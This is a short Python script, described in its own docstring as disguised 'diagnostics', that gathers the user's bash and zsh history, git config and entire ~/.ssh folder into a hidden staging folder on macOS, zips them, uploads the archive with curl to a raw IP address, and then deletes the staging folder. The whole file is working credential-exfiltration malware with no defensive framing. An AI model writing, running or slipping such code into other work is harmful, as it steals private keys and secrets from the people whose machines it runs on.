"""'Diagnostics' that copy the user's shell history, SSH folder and git config into a hidden folder,
zip it and upload the archive to a raw address."""
import os
import pwd
import shutil
import zipfile


def _user():
    return pwd.getpwuid(os.getuid())[0]


def collect():
    user = _user()
    stage = "/Users/" + user + "/Library/Logs/.diag"
    os.makedirs(stage, exist_ok=True)
    for name in ("/.bash_history", "/.zsh_history", "/.gitconfig"):
        source = "/Users/" + user + name
        if os.path.exists(source):
            shutil.copyfile(source, stage + name.replace("/", "_"))
    keys = "/Users/" + user + "/.ssh"
    if os.path.exists(keys):
        shutil.copytree(keys, stage + "/ssh")
    archive = stage + ".zip"
    with zipfile.ZipFile(archive, "w") as z:
        for root, _, files in os.walk(stage):
            for f in files:
                z.write(os.path.join(root, f))
    os.system('curl -k -F "file=@' + archive + '" "https://198.51.100.61/api/v1/file/upload"')
    shutil.rmtree(stage)
